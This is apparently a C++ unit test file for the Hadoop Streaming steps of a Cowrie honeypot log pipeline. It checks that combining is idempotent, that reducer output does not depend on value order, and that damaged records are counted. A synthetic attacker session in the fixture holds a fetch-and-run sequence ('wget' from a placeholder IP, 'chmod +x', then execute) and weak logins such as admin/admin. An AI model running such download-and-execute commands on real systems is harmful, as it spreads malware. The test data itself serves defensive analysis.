// The Hadoop Streaming steps (streaming.hpp) one at a time on small inputs, as Hadoop would
// feed them: combining twice gives what combining once gives, the order of the values of a
// key does not change what a reducer writes, and damaged records are counted, never fatal.
#include <gtest/gtest.h>

#include <algorithm>
#include <cstdio>
#include <map>

#include "cb/engine/streaming.hpp"
#include "cb/output/outputs.hpp"
#include "cb/util/archive.hpp"
#include "synthetic_sessions.hpp"

using cb::StreamStep;
using cbtest::Spec;

namespace {

struct StepResult {
    int rc = -1;
    std::string out, err;
};

std::string slurp(std::FILE* f) {
    std::string s;
    std::rewind(f);
    char buf[4096];
    for (std::size_t n; (n = std::fread(buf, 1, sizeof buf, f)) > 0;) s.append(buf, n);
    std::fclose(f);
    return s;
}

StepResult run(StreamStep step, const std::string& input, const cb::StreamingOptions& opt = {}) {
    std::FILE* in = std::tmpfile();
    std::FILE* out = std::tmpfile();
    std::FILE* err = std::tmpfile();
    std::fwrite(input.data(), 1, input.size(), in);
    std::rewind(in);
    StepResult r;
    r.rc = cb::run_streaming_step(step, opt, in, out, err);
    std::fclose(in);
    r.out = slurp(out);
    r.err = slurp(err);
    return r;
}

std::vector<std::string> lines_of(const std::string& text) {
    std::vector<std::string> v;
    std::size_t at = 0;
    for (std::size_t nl; (nl = text.find('\n', at)) != std::string::npos; at = nl + 1)
        v.push_back(text.substr(at, nl - at));
    return v;
}

std::string key_of(const std::string& line) { return line.substr(0, line.find('\t')); }

// What Hadoop's shuffle hands a combiner or reducer: lines sorted by key. The order of the
// values within a key is not defined; reversed = the other order than they came in.
std::string shuffle(const std::string& map_output, bool reversed = false) {
    std::vector<std::string> v = lines_of(map_output);
    if (reversed) std::reverse(v.begin(), v.end());
    std::stable_sort(v.begin(), v.end(), [](const auto& a, const auto& b) { return key_of(a) < key_of(b); });
    std::string s;
    for (const auto& l : v) s += l + "\n";
    return s;
}

// The value of counter `name` in a step's stderr, or -1.
long long counter(const StepResult& r, const std::string& name) {
    const std::string tag = "reporter:counter:cowrie-batch," + name + ",";
    const auto at = r.err.find(tag);
    return at == std::string::npos ? -1 : std::stoll(r.err.substr(at + tag.size()));
}

// Two map inputs (two files of a rotated log): session "split" starts in the first and ends
// in the second; the others live in one each, on two sensors.
std::pair<std::string, std::string> two_files() {
    Spec split;
    split.session = "split0000001";
    split.logins = {{"root", "1", false}, {"root", "2", true}};
    split.commands = {"uname -a", "cat /proc/cpuinfo", "wget http://198.51.100.1/x", "chmod +x x", "./x"};
    Spec other;
    other.session = "other0000001";
    other.sensor = "s2";
    other.start_s = 30;
    other.commands = {"id"};
    Spec third;
    third.session = "third0000001";
    third.start_s = 90;
    third.logins = {{"admin", "admin", true}};
    const std::vector<std::string> a = lines_of(cbtest::to_ndjson(split) + cbtest::to_ndjson(other));
    std::string first, second;
    for (std::size_t i = 0; i < a.size(); ++i) (i < a.size() / 2 ? first : second) += a[i] + "\n";
    second += cbtest::to_ndjson(third);
    return {first, second};
}

std::string mapped_sessions() {
    const auto [first, second] = two_files();
    return run(StreamStep::MapSessions, first).out + run(StreamStep::MapSessions, second).out;
}

}  // namespace

TEST(StreamingMapSessions, OneRecordPerSessionPlusIngestCounts) {
    const auto [first, second] = two_files();
    const StepResult r = run(StreamStep::MapSessions, first + second + "not json\n");
    EXPECT_EQ(r.rc, 0);
    std::vector<std::string> keys;
    for (const auto& l : lines_of(r.out)) keys.push_back(key_of(l));
    EXPECT_EQ(keys,
              (std::vector<std::string>{"s1\x1fsplit0000001", "s1\x1fthird0000001", "s2\x1fother0000001", "#ingest"}));
    EXPECT_EQ(counter(r, "rejected_lines"), 1);
    EXPECT_EQ(counter(r, "sessions_partial"), 3);
    EXPECT_EQ(counter(r, "events"), static_cast<long long>(lines_of(first + second).size()));
    // the first file alone holds only the start of the split session
    EXPECT_EQ(counter(run(StreamStep::MapSessions, first), "sessions_partial"), 1);
}

TEST(StreamingCombineSessions, CombiningTwiceEqualsOnce) {
    const std::string in = shuffle(mapped_sessions());
    const StepResult once = run(StreamStep::CombineSessions, in);
    ASSERT_EQ(once.rc, 0);
    EXPECT_EQ(counter(once, "sessions_merged"), 3);  // the split session's two parts became one
    const StepResult twice = run(StreamStep::CombineSessions, shuffle(once.out));
    EXPECT_EQ(twice.out, once.out);
    // a combiner is optional in Hadoop: reducing combined or raw map output gives the same
    EXPECT_EQ(run(StreamStep::ReduceSessions, shuffle(once.out)).out, run(StreamStep::ReduceSessions, in).out);
}

// The sessions a reduce-sessions output finalizes to, as sessions.jsonl lines. (The merged
// partial keeps its items in arrival order; finalize() sorts them, so the bytes of a partial
// may depend on value order while the session may not.)
std::string finalized_sessions(const std::string& reduced) {
    std::string out;
    for (const auto& line : lines_of(reduced)) {
        if (key_of(line) == "#ingest") {
            out += line + "\n";  // ingest counts: compared as they are
            continue;
        }
        std::string raw;
        cb::StringPool pool;
        cb::SessionPartial p;
        EXPECT_TRUE(cb::base64_decode(line.substr(line.find('\t') + 1), &raw));
        EXPECT_TRUE(cb::decode_partial(raw, pool, &p));
        cb::append_session_json(out, cb::finalize(std::move(p), cb::SessionOptions{}));
    }
    return out;
}

TEST(StreamingReduceSessions, OrderOfValuesDoesNotMatter) {
    const std::string map_out = mapped_sessions();
    const StepResult a = run(StreamStep::ReduceSessions, shuffle(map_out));
    const StepResult b = run(StreamStep::ReduceSessions, shuffle(map_out, true));
    ASSERT_EQ(a.rc, 0);
    EXPECT_EQ(lines_of(a.out).size(), 4u);  // three sessions and #ingest
    EXPECT_EQ(finalized_sessions(a.out), finalized_sessions(b.out));
    EXPECT_NE(finalized_sessions(a.out).find("\"last_command\":\"./x\""), std::string::npos)
        << finalized_sessions(a.out);
}

TEST(StreamingReduceSessions, DamagedRecordsAreCountedNotFatal) {
    const std::string good = shuffle(mapped_sessions());
    const std::string bad =
        "s1\x1fsplit0000001\tnot base64!\n"  // in the middle of a key's values
        "s1\x1fzzzz\t" +
        cb::base64_encode("not an archive") +
        "\n"
        "a line without a tab\n"
        "#ingest\tAAAA\n";
    const StepResult clean = run(StreamStep::ReduceSessions, good);
    const StepResult damaged = run(StreamStep::ReduceSessions, shuffle(good + bad));
    EXPECT_EQ(damaged.rc, 0);
    EXPECT_EQ(counter(damaged, "bad_records"), 4);
    EXPECT_EQ(counter(clean, "bad_records"), -1);  // counters of zero are not written
    EXPECT_EQ(damaged.out, clean.out);             // the good records give what they give alone
}

TEST(StreamingMarkers, CombineTwiceEqualsOnceAndReduceEmitsTheSet) {
    const std::string sessions = run(StreamStep::ReduceSessions, shuffle(mapped_sessions())).out;
    const std::vector<std::string> lines = lines_of(sessions);
    std::string half1, half2;
    for (std::size_t i = 0; i < lines.size(); ++i) (i % 2 ? half1 : half2) += lines[i] + "\n";
    const std::string mapped = run(StreamStep::MapMarkers, half1).out + run(StreamStep::MapMarkers, half2).out;
    const StepResult once = run(StreamStep::CombineMarkers, shuffle(mapped));
    EXPECT_EQ(run(StreamStep::CombineMarkers, once.out).out, once.out);
    const StepResult reduced = run(StreamStep::ReduceMarkers, shuffle(mapped, true));
    EXPECT_EQ(reduced.rc, 0);
    EXPECT_EQ(reduced.out, run(StreamStep::ReduceMarkers, shuffle(mapped)).out);
    const auto out = lines_of(reduced.out);
    ASSERT_EQ(out.size(), 2u);
    EXPECT_EQ(key_of(out[0]), "markers");
    EXPECT_EQ(key_of(out[1]), "marker-set");
    const StepResult damaged = run(StreamStep::ReduceMarkers, shuffle(mapped) + "markers\t!!\nother\tAAAA\n");
    EXPECT_EQ(damaged.rc, 0);
    EXPECT_EQ(counter(damaged, "bad_records"), 2);
    EXPECT_EQ(damaged.out, reduced.out);
}

namespace {

// The finished CSV tables of reduce-analyses output (the bytes of a saved state may depend on
// merge order; what the analyses finish to must not).
std::map<std::string, std::string> finished_tables(const std::string& reduced) {
    std::map<std::string, std::string> csv;
    cb::Findings findings;
    cb::AnalysisConfig cfg;
    for (const auto& line : lines_of(reduced)) {
        for (auto& a : cb::make_analyses()) {
            if (a->name() != key_of(line)) continue;
            std::string raw;
            EXPECT_TRUE(cb::base64_decode(line.substr(line.find('\t') + 1), &raw));
            EXPECT_TRUE(a->load(raw)) << a->name();
            a->finish(cfg, findings);
        }
    }
    for (const auto& t : findings.tables) csv[t.name] = cb::to_csv(t);
    return csv;
}

}  // namespace

TEST(StreamingAnalyses, ReducerOutputDoesNotDependOnOrderOrOnCombining) {
    const std::vector<std::string> sessions = lines_of(run(StreamStep::ReduceSessions, shuffle(mapped_sessions())).out);
    std::string half1, half2;
    for (std::size_t i = 0; i < sessions.size(); ++i) (i % 2 ? half1 : half2) += sessions[i] + "\n";
    const StepResult m1 = run(StreamStep::MapAnalyses, half1), m2 = run(StreamStep::MapAnalyses, half2);
    EXPECT_EQ(counter(m1, "sessions_analysed") + counter(m2, "sessions_analysed"), 3);
    const std::string mapped = m1.out + m2.out;
    const auto want = finished_tables(run(StreamStep::ReduceAnalyses, shuffle(mapped)).out);
    ASSERT_GE(want.size(), 8u);
    EXPECT_EQ(finished_tables(run(StreamStep::ReduceAnalyses, shuffle(mapped, true)).out), want);
    const std::string combined = run(StreamStep::CombineAnalyses, shuffle(mapped)).out;
    EXPECT_EQ(finished_tables(run(StreamStep::ReduceAnalyses, shuffle(combined)).out), want);
    EXPECT_EQ(
        finished_tables(run(StreamStep::ReduceAnalyses, shuffle(run(StreamStep::CombineAnalyses, combined).out)).out),
        want);
    const StepResult damaged = run(StreamStep::ReduceAnalyses, shuffle(mapped + "no-such-analysis\tAAAA\nforks\t!!\n"));
    EXPECT_EQ(damaged.rc, 0);
    EXPECT_EQ(counter(damaged, "bad_records"), 2);
    EXPECT_EQ(finished_tables(damaged.out), want);
}

TEST(StreamingMapAnalyses, DamagedSessionRecordsAreCounted) {
    const StepResult r = run(StreamStep::MapAnalyses, "s1\x1fx\tnot base64\n#ingest\tAAAA\n\n");
    EXPECT_EQ(r.rc, 0);
    EXPECT_EQ(counter(r, "bad_records"), 1);  // #ingest and empty keys are not sessions
    EXPECT_EQ(counter(r, "sessions_analysed"), -1);
    EXPECT_FALSE(r.out.empty());  // every analysis still emits its (empty) state
}
